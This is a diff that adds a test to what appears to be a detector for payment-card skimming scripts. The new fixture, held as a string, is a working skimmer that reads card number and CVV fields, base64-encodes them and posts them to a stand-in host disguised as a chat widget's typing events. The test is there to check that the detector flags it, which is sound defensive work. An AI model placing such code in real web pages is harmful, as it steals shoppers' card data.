@@ -30,6 +30,20 @@ describe('sends the first look cannot name', () => {
     expect(v.findings.map((f) => f.message).join('\n')).toContain('https://edge-metrics.example/q')
   })
 
+  it("card values handed to a method the script assigns on a prototype, sent by another it calls on this", () => {
+    const source = `function Link(host) { this.host = host }
+      Link.prototype.post = function (body) {
+        var x = new XMLHttpRequest(); x.open('POST', this.host + '/poll?t=' + Date.now()); x.send(body)
+      }
+      Link.prototype.emit = function (name, data) { this.post('42' + JSON.stringify([name, data])) }
+      var link = new Link('https://rt.chat-widget.example')
+      document.addEventListener('change', function () {
+        var n = document.querySelector('[name="cc_number"]'), c = document.querySelector('[name="cc_cvv"]')
+        if (n && c && n.value.length > 12) link.emit('typing', { draft: btoa(n.value + '|' + c.value) })
+      }, true)`
+    expect(rules(source)).toContain('card-field-read-and-send')
+  })
+
   it('an image made under a name that says nothing, its address held in a variable', () => {
     // what a minifier makes of `ping(url)`: the element's name is one letter, the URL computed
     const source = `document.addEventListener('submit', function (n) {
